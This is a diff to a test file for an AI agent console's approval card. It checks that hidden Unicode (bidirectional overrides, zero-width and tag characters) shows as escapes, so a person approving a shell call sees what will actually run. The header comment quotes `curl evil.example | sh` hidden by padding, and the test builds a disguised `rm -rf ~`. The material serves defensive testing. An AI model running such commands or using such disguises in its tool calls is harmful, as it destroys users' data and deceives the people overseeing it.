@@ -4,7 +4,8 @@
  *   carry HTML/JS payloads: nothing may execute, and no element may come from the payloads.
  * - A pending call's arguments are what the person approves: every character must be in view
  *   (a shell command padded with spaces hid `; curl evil.example | sh` past the right edge of a
- *   <pre> that scrolled sideways) and read as it runs (bidirectional controls reorder it).
+ *   <pre> that scrolled sideways) and read as it runs (bidirectional controls reorder it, tag
+ *   characters hide words), on the card and in the history.
  */
 
 import type { Browser } from "playwright-core";
@@ -109,7 +110,8 @@ describe("console approval card", () => {
 
   it("shows bidirectional and zero-width characters as escapes, so a command reads as it runs", async () => {
     // U+202E turns what follows right-to-left: shown raw, `rm -rf ~ #` would read otherwise.
-    const command = "echo safe \u202e# ~ fr- mr\u202c; rm -rf ~\u200b";
+    // Tag characters (U+E0000 block) hide words: `\u{e0041}` is an invisible "A".
+    const command = "echo safe \u202e# ~ fr- mr\u202c; rm -rf ~\u200b\u{e0041}";
     // Twice: the first test's run, its call denied, may still take one reply from the queue.
     const call = { toolCalls: [{ id: "c2", name: "shell", arguments: JSON.stringify({ command }) }] };
     upstream.enqueue(call, call);
@@ -122,8 +124,12 @@ describe("console approval card", () => {
     const pre = page.locator(".approval pre");
     await pre.waitFor();
     const shown = await pre.textContent();
-    expect(shown).not.toMatch(/[\u202e\u202c\u200b]/);
-    expect(shown).toContain("\\u202e# ~ fr- mr\\u202c; rm -rf ~\\u200b");
+    expect(shown).not.toMatch(/[\u202e\u202c\u200b\u{e0041}]/u);
+    expect(shown).toContain("\\u202e# ~ fr- mr\\u202c; rm -rf ~\\u200b\\u{e0041}");
+    // The history's line of the call is shown the same way.
+    const line = await page.locator("#history .call").textContent();
+    expect(line).not.toMatch(/[\u202e\u202c\u200b\u{e0041}]/u);
+    expect(line).toContain("\\u202e# ~ fr- mr\\u202c; rm -rf ~\\u200b\\u{e0041}");
     await page.locator(".approval .deny").click();
   });
 });
